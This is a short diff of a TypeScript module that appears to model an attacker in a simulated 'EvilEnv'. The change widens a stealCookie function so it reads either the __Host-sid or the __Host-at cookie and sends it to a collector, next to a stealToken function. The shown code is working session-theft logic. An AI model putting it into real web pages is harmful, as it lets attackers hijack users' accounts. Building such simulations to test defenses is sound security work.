@@ -11,10 +11,10 @@ export async function stealToken(page: EvilEnv) {
   if (token) await sendOut(collector + token)
 }
 
-/** Takes the session cookie, if script may read it. */
+/** Takes the cookie that tells who somebody is, if script may read it. */
 export async function stealCookie({ document, sendOut }: EvilEnv) {
-  const sid = /__Host-sid=([^;]+)/.exec(document.cookie)?.[1]
-  if (sid) await sendOut(collector + sid)
+  const value = /__Host-(?:sid|at)=([^;]+)/.exec(document.cookie)?.[1]
+  if (value) await sendOut(collector + value)
 }
 
 /** Nothing lies around, so it asks for a fresh token, as the page would. */
